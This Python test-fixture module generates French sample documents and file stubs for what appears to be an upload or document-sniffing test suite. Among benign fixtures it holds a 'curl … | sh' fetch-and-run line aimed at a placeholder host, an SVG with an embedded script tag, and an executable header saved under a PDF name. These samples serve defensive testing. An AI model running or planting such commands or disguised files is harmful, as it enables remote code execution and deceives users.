"""Builders of realistic French sample files for the documents tests.

``*_bytes`` functions return the content; ``make_*`` functions write it to ``path`` and return
the path. Everything is generated, nothing is checked in.
"""

from __future__ import annotations

import io
import logging
import math
import struct
import uuid
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape

import docx
from fpdf import FPDF

DEJAVU = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
OWNER_PASSWORD = "proprietaire-2025"
USER_PASSWORD = "Chenonceau-2025"

# fpdf2 subsets the TTF font through fontTools, which logs every glyph at INFO level.
logging.getLogger("fontTools").setLevel(logging.WARNING)

CONSEIL = (
    "Compte rendu du conseil communautaire du 12 mars 2025",
    "Présents : Mme Hélène Durand, présidente ; M. François Lefèvre, vice-président chargé "
    "des écoles ; Mme Zoé Gaël, déléguée de Saint-Étienne-de-Chigny.",
    "Délibération n° 2025-014 : réhabilitation de l'école élémentaire « Les Tilleuls ». "
    "Le conseil approuve à l'unanimité le plan de financement (coût prévisionnel : "
    "1 250 000 € HT).",
    "Questions diverses : la réunion du comité de pilotage du contrat local de santé est "
    "reportée au jeudi 3 avril à 18 h 30, salle des fêtes de Noyant-la-Gravoyère.",
)

BUDGET_ROWS = (
    ("Poste", "Montant", "Financeur"),
    ("Désamiantage", "180 000 €", "État (DETR)"),
    ("Menuiseries extérieures", "95 500 €", "Région Pays de la Loire"),
    ("Chaufferie bois", "212 000 €", "Département"),
)


# --- PDF --------------------------------------------------------------------------------------


def pdf_bytes(
    paragraphs: Sequence[str] = CONSEIL,
    *,
    user_password: str | None = None,
    owner_password: str = OWNER_PASSWORD,
) -> bytes:
    """A PDF with one paragraph per block, optionally encrypted (RC4, as fpdf2 does by default)."""
    pdf = FPDF()
    if user_password is not None:
        pdf.set_encryption(owner_password=owner_password, user_password=user_password)
    pdf.add_page()
    if DEJAVU.exists():
        pdf.add_font("DejaVu", fname=str(DEJAVU))
        pdf.set_font("DejaVu", size=11)
    else:  # core fonts are latin-1, which still covers French accents (not €)
        pdf.set_font("Helvetica", size=11)
        paragraphs = [p.encode("latin-1", "replace").decode("latin-1") for p in paragraphs]
    for paragraph in paragraphs:
        pdf.multi_cell(0, 6, paragraph)
        pdf.ln(3)
    return bytes(pdf.output())


def make_pdf(path: Path, paragraphs: Sequence[str] = CONSEIL) -> Path:
    path.write_bytes(pdf_bytes(paragraphs))
    return path


def make_encrypted_pdf(
    path: Path, *, user_password: str = USER_PASSWORD, paragraphs: Sequence[str] = CONSEIL
) -> Path:
    """An encrypted PDF; with ``user_password=""`` it opens without asking for a password."""
    path.write_bytes(pdf_bytes(paragraphs, user_password=user_password))
    return path


def make_corrupt_pdf(path: Path) -> Path:
    """A PDF cut short mid-file, the way an interrupted upload leaves it: no xref, no %%EOF."""
    data = pdf_bytes()
    path.write_bytes(data[: len(data) // 3])
    return path


def make_blank_pdf(path: Path) -> Path:
    """A PDF without any text, like a scan."""
    pdf = FPDF()
    pdf.add_page()
    pdf.rect(20, 20, 50, 30)
    path.write_bytes(bytes(pdf.output()))
    return path


# --- DOCX and other Office Open XML -----------------------------------------------------------


def docx_bytes(
    paragraphs: Sequence[str] = CONSEIL,
    table_rows: Sequence[Sequence[str]] = BUDGET_ROWS,
    *,
    header: str = "Communauté de communes Baugeois-Vallée — séance publique",
    footer: str = "Document de travail — ne pas diffuser avant approbation",
    nested_cell_text: str = "Subvention notifiée le 4 février",
    annex_header: str = "",
) -> bytes:
    """A Word document with a heading, paragraphs, a table holding a nested table in its last
    cell, and a header and footer; with ``annex_header``, a second section (an annex) with a
    header of its own."""
    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = header
    section.footer.paragraphs[0].text = footer
    document.add_heading(paragraphs[0], level=1)
    for paragraph in paragraphs[1:]:
        document.add_paragraph(paragraph)
    if table_rows:
        table = document.add_table(rows=len(table_rows), cols=len(table_rows[0]))
        for row, values in zip(table.rows, table_rows, strict=True):
            for cell, value in zip(row.cells, values, strict=True):
                cell.text = value
        if nested_cell_text:
            nested = table.rows[-1].cells[-1].add_table(rows=1, cols=1)
            nested.rows[0].cells[0].text = nested_cell_text
    if annex_header:
        annex = document.add_section()
        annex.header.is_linked_to_previous = False
        annex.header.paragraphs[0].text = annex_header
        document.add_paragraph("Annexe : plan de financement détaillé.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def make_docx(
    path: Path,
    paragraphs: Sequence[str] = CONSEIL,
    table_rows: Sequence[Sequence[str]] = BUDGET_ROWS,
    *,
    header: str = "Communauté de communes Baugeois-Vallée — séance publique",
    footer: str = "Document de travail — ne pas diffuser avant approbation",
    annex_header: str = "",
) -> Path:
    path.write_bytes(
        docx_bytes(paragraphs, table_rows, header=header, footer=footer, annex_header=annex_header)
    )
    return path


_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"


def make_docx_with_revisions_and_footnote(path: Path) -> Path:
    """A Word form as administrations send them: a filled content control (w:sdt), a tracked
    insertion and deletion, and a footnote. python-docx cannot write these, so the package is
    edited directly."""
    extra_body = (
        "<w:sdt><w:sdtContent><w:p><w:r><w:t>Commune de Beaufort-en-Anjou</w:t></w:r></w:p>"
        '</w:sdtContent></w:sdt><w:p><w:ins w:id="1" w:author="Secrétariat"><w:r>'
        "<w:t>Montant révisé : 14 000 €</w:t></w:r></w:ins>"
        '<w:del w:id="2" w:author="Secrétariat"><w:r><w:delText>Montant initial : 9 000 €'
        "</w:delText></w:r></w:del></w:p>"
    )
    footnotes = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes {_W_NS}><w:footnote w:id="1">'
        "<w:p><w:r><w:t>Vu le code général des collectivités territoriales.</w:t></w:r></w:p>"
        "</w:footnote></w:footnotes>"
    )
    edits = {
        "[Content_Types].xml": (
            "</Types>",
            f'<Override PartName="/word/footnotes.xml" ContentType="{_FOOTNOTES_TYPE}"/></Types>',
        ),
        "word/_rels/document.xml.rels": (
            "</Relationships>",
            '<Relationship Id="rIdNotes" Target="footnotes.xml" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/footnotes"/></Relationships>',
        ),
        "word/document.xml": ("<w:body>", "<w:body>" + extra_body),
    }
    with (
        zipfile.ZipFile(io.BytesIO(docx_bytes())) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            if info.filename in edits:
                old, new = edits[info.filename]
                data = data.replace(old.encode(), new.encode())
            target.writestr(info, data)
        target.writestr("word/footnotes.xml", footnotes)
    return path


_OOXML_MAIN = {
    "word": ("word/document.xml", "wordprocessingml.document"),
    "excel": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "powerpoint": ("ppt/presentation.xml", "presentationml.presentation"),
}
_OOXML_MACRO_MAIN = {
    "word": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "excel": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "powerpoint": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}


def ooxml_bytes(kind: str, *, macros: bool = False) -> bytes:
    """A skeleton .xlsx/.pptx/.docx (``kind``: word, excel, powerpoint), enough for sniffing."""
    main_name, main_kind = _OOXML_MAIN[kind]
    main_type = (
        _OOXML_MACRO_MAIN[kind]
        if macros
        else f"application/vnd.openxmlformats-officedocument.{main_kind}.main+xml"
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_name}" ContentType="{main_type}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{main_name}"/></Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr(main_name, '<?xml version="1.0"?><racine>Budget primitif 2025</racine>')
        if macros:
            archive.writestr(main_name.split("/")[0] + "/vbaProject.bin", ole_bytes(["VBA"]))
    return buffer.getvalue()


# --- OpenDocument -----------------------------------------------------------------------------

_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'office:version="1.3"'
)


def odf_inline(text: str) -> str:
    """Escape ``text`` for an ODF paragraph, spelling runs of spaces, tabs and line breaks the
    way LibreOffice does (text:s, text:tab, text:line-break)."""
    out: list[str] = []
    i = 0
    while i < len(text):
        char = text[i]
        if char == " " and i + 1 < len(text) and text[i + 1] == " ":
            run = len(text[i:]) - len(text[i:].lstrip(" "))
            out.append(f' <text:s text:c="{run - 1}"/>')
            i += run
            continue
        if char == "\t":
            out.append("<text:tab/>")
        elif char == "\n":
            out.append("<text:line-break/>")
        else:
            out.append(escape(char))
        i += 1
    return "".join(out)


def odf_bytes(mimetype: str, body: str, *, master_styles: str = "") -> bytes:
    """An OpenDocument package written by hand: ``mimetype`` first and stored, then the rest."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<office:document-content {_ODF_NS}><office:body>{body}</office:body>"
        "</office:document-content>"
    )
    styles = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<office:document-styles {_ODF_NS}>"
        f"<office:master-styles>{master_styles}</office:master-styles></office:document-styles>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<manifest:manifest {_ODF_NS}>"
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("styles.xml", styles, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _odf_table(rows: Sequence[Sequence[str]], name: str = "Tableau1") -> str:
    cells = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{odf_inline(value)}</text:p>'
            "</table:table-cell>"
            for value in row
        )
        + "</table:table-row>"
        for row in rows
    )
    columns = len(rows[0]) if rows else 1
    return (
        f'<table:table table:name="{name}">'
        f'<table:table-column table:number-columns-repeated="{columns}"/>{cells}</table:table>'
    )


def odt_bytes(
    paragraphs: Sequence[str] = CONSEIL,
    table_rows: Sequence[Sequence[str]] = BUDGET_ROWS,
    *,
    header: str = "",
    footer: str = "",
) -> bytes:
    """A text document: the first paragraph as a heading, the others as paragraphs, a table."""
    body = f'<text:h text:outline-level="1">{odf_inline(paragraphs[0])}</text:h>' + "".join(
        f"<text:p>{odf_inline(p)}</text:p>" for p in paragraphs[1:]
    )
    if table_rows:
        body += _odf_table(table_rows)
    master = ""
    if header or footer:
        master = (
            '<style:master-page style:name="Standard">'
            f"<style:header><text:p>{odf_inline(header)}</text:p></style:header>"
            f"<style:footer><text:p>{odf_inline(footer)}</text:p></style:footer>"
            "</style:master-page>"
        )
    return odf_bytes(
        "application/vnd.oasis.opendocument.text",
        f"<office:text>{body}</office:text>",
        master_styles=master,
    )


def make_odt(
    path: Path,
    paragraphs: Sequence[str] = CONSEIL,
    table_rows: Sequence[Sequence[str]] = BUDGET_ROWS,
    *,
    header: str = "",
    footer: str = "",
) -> Path:
    path.write_bytes(odt_bytes(paragraphs, table_rows, header=header, footer=footer))
    return path


def ods_bytes(rows: Sequence[Sequence[str]] = BUDGET_ROWS) -> bytes:
    return odf_bytes(
        "application/vnd.oasis.opendocument.spreadsheet",
        f"<office:spreadsheet>{_odf_table(rows, 'Budget')}</office:spreadsheet>",
    )


def odp_bytes(
    slides: Sequence[str] = ("Projet de territoire", "Mobilités en milieu rural"),
) -> bytes:
    pages = "".join(
        f'<draw:page draw:name="page{n}"><draw:frame presentation:class="title">'
        f"<draw:text-box><text:p>{odf_inline(title)}</text:p></draw:text-box></draw:frame>"
        "</draw:page>"
        for n, title in enumerate(slides, start=1)
    )
    return odf_bytes(
        "application/vnd.oasis.opendocument.presentation",
        f"<office:presentation>{pages}</office:presentation>",
    )


# --- Old Office (OLE2 compound files) ---------------------------------------------------------

_FREE, _END_OF_CHAIN, _FAT_SECTOR = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole_bytes(entries: Sequence[str], *, root_clsid: bytes = bytes(16)) -> bytes:
    """A compound file whose directory lists ``entries`` (streams, or storages for the macro
    names), with 512-byte sectors: sector 0 holds the FAT, the directory follows."""
    names = ["Root Entry", *entries]
    directory_sectors = math.ceil(len(names) / 4)
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<5H", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<3I", header, 0x2C, 1, 1, 0)  # FAT sectors, first directory sector
    struct.pack_into("<5I", header, 0x38, 4096, _END_OF_CHAIN, 0, _END_OF_CHAIN, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([_FREE] * 108))
    fat = [_FAT_SECTOR, *range(2, directory_sectors + 1), _END_OF_CHAIN]
    fat += [_FREE] * (128 - len(fat))
    directory = bytearray(512 * directory_sectors)
    for index, name in enumerate(names):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        storage = index == 0 or name in ("Macros", "VBA", "_VBA_PROJECT_CUR")
        kind = 5 if index == 0 else (1 if storage else 2)
        struct.pack_into("<HBB3I", entry, 0x40, len(encoded), kind, 1, _FREE, _FREE, _FREE)
        if index == 0:
            entry[0x50:0x60] = root_clsid
        struct.pack_into("<I", entry, 0x74, _END_OF_CHAIN)
        directory[index * 128 : (index + 1) * 128] = entry
    return bytes(header) + struct.pack("<128I", *fat) + bytes(directory)


def doc_bytes(*, macros: bool = False) -> bytes:
    return ole_bytes(
        ["WordDocument", "1Table", "\x05SummaryInformation", *(["Macros"] if macros else [])]
    )


def xls_bytes() -> bytes:
    return ole_bytes(["Workbook", "\x05SummaryInformation"])


def msi_bytes() -> bytes:
    clsid = uuid.UUID("000c1084-0000-0000-c000-000000000046").bytes_le
    return ole_bytes(["\x05SummaryInformation"], root_clsid=clsid)


def encrypted_office_bytes() -> bytes:
    return ole_bytes(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"])


# --- Images -----------------------------------------------------------------------------------


def png_bytes() -> bytes:
    """A valid 1×1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)
GIF_HEAD = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + bytes(32)
WEBP_HEAD = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + bytes(32)
HEIC_HEAD = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(32)
RTF_TEXT = "{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Arial;}}\\f0 Conseil d\\'e9cole du 5 juin.}"
SVG_TEXT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40">'
    '<script>alert("coucou")</script><text x="0" y="20">Plan du bourg</text></svg>'
)
HTML_TEXT = (
    '<!DOCTYPE html>\n<html lang="fr"><head><title>Ordre du jour</title></head>'
    "<body><p>Réunion de l'association des parents d'élèves</p></body></html>"
)


# --- Text and programs ------------------------------------------------------------------------


def make_txt(path: Path, text: str = "\n\n".join(CONSEIL), *, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def pe_bytes() -> bytes:
    """The start of a Windows program: DOS header and stub, PE signature, COFF header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 0x02, 0x90)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x4E : 0x4E + len(stub)] = stub
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0x65F1A2B3, 0, 0, 0xF0, 0x0022)
    return bytes(dos) + b"PE\x00\x00" + coff + bytes(0xF0) + b".text\x00\x00\x00" + bytes(512)


def make_exe_named_pdf(path: Path) -> Path:
    """A Windows program saved under an innocent-looking name such as ``facture.pdf``."""
    path.write_bytes(pe_bytes())
    return path


ELF_HEAD = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(48)
MACHO_HEAD = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + bytes(48)
MACHO_FAT_HEAD = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(48)
JAVA_CLASS_HEAD = b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(48)
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://exemple.invalid/x | sh\n"


def zip_bytes(members: dict[str, bytes] | None = None) -> bytes:
    members = members or {"ordre-du-jour.txt": "Ordre du jour du conseil d'école".encode()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def jar_bytes() -> bytes:
    return zip_bytes(
        {
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: fr.exemple.Main\n",
            "fr/exemple/Main.class": JAVA_CLASS_HEAD,
        }
    )
